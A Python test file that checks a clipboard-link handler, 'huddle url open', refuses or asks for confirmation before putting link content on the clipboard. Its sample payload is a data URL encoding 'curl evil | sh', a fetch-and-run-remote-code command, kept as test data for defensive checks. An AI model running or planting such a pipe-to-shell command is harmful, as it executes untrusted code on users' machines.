"""`huddle url open`, the program the desktop runs for huddle: links, asks before it changes the clipboard.

Runs the binary against a private X server (Xvfb) with its own pasteboard directories; no network. Without a
terminal (as under xdg-open) a data URL is refused unless --yes is given, and a named-pasteboard reference (which
would read, and with clear=1 remove, another program's pasteboard) is refused even with --yes. On a terminal it
shows what the link carries and asks first.
"""

from __future__ import annotations

import os
import pty
import select
import subprocess
import time

import pytest

from conftest import skip_or_fail
from huddle_cli import huddle_bin
from xdisplay import XDisplay

# `huddle url encode` of "curl evil | sh" as text/plain, spelled out so the test does not depend on the encoder.
DATA_URL = "huddle:item?type=text/plain&data=Y3VybCBldmlsIHwgc2g"


@pytest.fixture
def x():
    try:
        display = XDisplay()
    except RuntimeError as e:
        skip_or_fail(str(e))
    yield display
    display.stop()


@pytest.fixture
def env(tmp_path, x):
    run = tmp_path / "run"
    run.mkdir(mode=0o700)
    return dict(os.environ, HOME=str(tmp_path), XDG_RUNTIME_DIR=str(run), XDG_DATA_HOME=str(tmp_path / "data"),
                DISPLAY=x.display, SWIFT_BACKTRACE="enable=no")


def huddle(env, *args: str, data: bytes | None = None) -> subprocess.CompletedProcess:
    """`huddle ARGS` with no terminal: standard input is `data`, else /dev/null."""
    return subprocess.run([huddle_bin(), *args], input=data, stdin=None if data is not None else subprocess.DEVNULL,
                          capture_output=True, env=env, timeout=30)


def on_terminal(env, *args: str, answer: str, timeout: float = 60) -> tuple[int, str]:
    """`huddle ARGS` on a pseudo-terminal: waits for the [y/n] question, types `answer`; (exit status, screen)."""
    master, slave = pty.openpty()
    proc = subprocess.Popen([huddle_bin(), *args], stdin=slave, stdout=slave, stderr=slave, env=env,
                            close_fds=True)
    os.close(slave)
    screen, answered = b"", False
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.1)
            if ready:
                try:
                    chunk = os.read(master, 4096)
                except OSError:  # the other end closed: the program ended
                    break
                if not chunk:
                    break
                screen += chunk
            if not answered and b"[y/n]" in screen:
                os.write(master, answer.encode() + b"\n")
                answered = True
            if proc.poll() is not None and not ready:
                break
        try:
            status = proc.wait(timeout=max(0.1, deadline - time.monotonic()))
        except subprocess.TimeoutExpired:
            raise AssertionError(f"huddle {' '.join(args)} still running after {timeout} s (answered: {answered});"
                                 f" its terminal showed:\n{screen.decode(errors='replace')}") from None
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(timeout=5)
        os.close(master)
    return status, screen.decode(errors="replace")


def test_a_reference_with_clear_is_refused_without_a_terminal_and_the_pasteboard_stays(x, env):
    stored = huddle(env, "url", "encode", "--name", "victim", "--type", "text/plain", "-", data=b"hand-off data")
    assert stored.returncode == 0, stored.stderr
    for extra in ([], ["--yes"]):
        opened = huddle(env, "url", "open", *extra, "huddle:item?name=victim&clear=1")
        assert opened.returncode != 0, (extra, opened.stderr)
        assert b"named pasteboard" in opened.stderr, opened.stderr
        assert x.paste() is None, "nothing is written to the clipboard"
    kept = huddle(env, "url", "decode", "huddle:item?name=victim")
    assert (kept.returncode, kept.stdout) == (0, b"hand-off data"), kept.stderr


def test_a_data_url_without_a_terminal_is_refused_unless_yes_is_given(x, env):
    refused = huddle(env, "url", "open", DATA_URL)
    assert refused.returncode != 0, refused.stderr
    assert b"--yes" in refused.stderr, refused.stderr
    assert x.paste() is None
    taken = huddle(env, "url", "open", "--yes", DATA_URL)
    assert taken.returncode == 0, taken.stderr
    x.wait_for(b"curl evil | sh")


def test_on_a_terminal_it_shows_the_item_and_asks_first(x, env):
    status, screen = on_terminal(env, "url", "open", DATA_URL, answer="n")
    assert "text/plain (14 B)" in screen and '"curl evil | sh"' in screen and "[y/n]" in screen, screen
    assert status != 0, screen
    assert x.paste() is None
    status, screen = on_terminal(env, "url", "open", DATA_URL, answer="y")
    assert status == 0, screen
    x.wait_for(b"curl evil | sh")
